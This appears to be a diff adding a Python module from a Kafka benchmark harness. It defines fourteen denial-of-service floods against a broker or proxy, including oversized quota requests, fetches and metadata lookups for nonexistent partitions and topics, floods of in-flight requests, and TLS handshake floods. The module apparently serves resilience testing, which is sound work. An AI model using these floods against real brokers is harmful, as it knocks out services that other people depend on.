@@ -1,0 +1,132 @@
+"""The attacks: each is a function of the target that returns what one client sends.
+
+To add one, write such a function, and add it to ATTACKS with a sentence about it.
+"""
+
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass
+from typing import Final
+
+from bench.attacks import frames
+
+PARTITIONS: Final = 1000
+"""The partitions that one request of a flood names; a topic of the attacker has as many names, not as many
+partitions."""
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """What is attacked."""
+
+    port: int
+    """Of the broker, or of its place at the proxy."""
+    topic: str
+    """A topic on which the attacker has every right."""
+    topic_id: bytes
+    tls_port: int = 0
+    """0 without TLS."""
+
+
+@dataclass(frozen=True, slots=True)
+class Flood:
+    """Requests that are sent again and again on several connections."""
+
+    requests: Sequence[bytes]
+    """In turn."""
+    connections: int = 10
+    in_flight: int = 1
+    """How many requests of a connection may await their responses."""
+    tls_handshakes: bool = False
+    """Each connection makes a TLS handshake and ends, without a request."""
+
+
+def describe_client_quotas(target: Target) -> Flood:
+    """DescribeClientQuotas with three million filter components, 16 MiB."""
+    return Flood([frames.describe_client_quotas(3_300_000)], connections=2)
+
+
+def alter_client_quotas(target: Target) -> Flood:
+    """AlterClientQuotas with 1.5 million changes, 16 MiB."""
+    return Flood([frames.alter_client_quotas(1_500_000)], connections=2)
+
+
+def fetch(target: Target) -> Flood:
+    """Fetch of 300,000 partitions that do not exist."""
+    return Flood([frames.fetch(target.topic, 300_000)], connections=2)
+
+
+def api_versions(target: Target) -> Flood:
+    """ApiVersions of a version that nobody knows, 1,000 in flight."""
+    return Flood([frames.api_versions()], in_flight=1000)
+
+
+def metadata(target: Target) -> Flood:
+    """Metadata of 10,000 topics that do not exist."""
+    return Flood([frames.metadata(f"no-such-topic-{number}" for number in range(10_000))])
+
+
+def list_offsets(target: Target) -> Flood:
+    """ListOffsets of a time in 1,000 partitions."""
+    return Flood([frames.list_offsets(target.topic, PARTITIONS)])
+
+
+def offset_for_leader_epoch(target: Target) -> Flood:
+    """OffsetForLeaderEpoch of 1,000 partitions."""
+    return Flood([frames.offset_for_leader_epoch(target.topic, PARTITIONS)])
+
+
+def delete_records(target: Target) -> Flood:
+    """DeleteRecords of 1,000 partitions."""
+    return Flood([frames.delete_records(target.topic, PARTITIONS)])
+
+
+def init_producer_id(target: Target) -> Flood:
+    """InitProducerId with 1,000 transactional ids."""
+    return Flood([frames.init_producer_id(f"attack-{number}") for number in range(1000)])
+
+
+def add_partitions_to_txn(target: Target) -> Flood:
+    """AddPartitionsToTxn of 1,000 partitions, by a producer that does not exist."""
+    return Flood([frames.add_partitions_to_txn("attack-1", target.topic, PARTITIONS)])
+
+
+def end_txn(target: Target) -> Flood:
+    """EndTxn of a producer that does not exist."""
+    return Flood([frames.end_txn("attack-1")])
+
+
+def share_fetch(target: Target) -> Flood:
+    """ShareFetch that opens a session, again and again."""
+    return Flood([frames.share_fetch("attack", "AAAAAAAAAAAAAAAAAAAAAQ", 0)])
+
+
+def share_acknowledge(target: Target) -> Flood:
+    """ShareAcknowledge of 10,000 batches that were not delivered."""
+    return Flood([frames.share_acknowledge("attack", "AAAAAAAAAAAAAAAAAAAAAQ", target.topic_id, 10_000)])
+
+
+def tls_handshakes(target: Target) -> Flood:
+    """TLS handshakes, one after the other on 50 connections."""
+    return Flood([], connections=50, tls_handshakes=True)
+
+
+Attack = Callable[[Target], Flood]
+ATTACKS: Final[dict[str, Attack]] = {
+    attack.__name__: attack
+    for attack in (
+        describe_client_quotas,
+        alter_client_quotas,
+        fetch,
+        api_versions,
+        metadata,
+        list_offsets,
+        offset_for_leader_epoch,
+        delete_records,
+        init_producer_id,
+        add_partitions_to_txn,
+        end_txn,
+        share_fetch,
+        share_acknowledge,
+        tls_handshakes,
+    )
+}
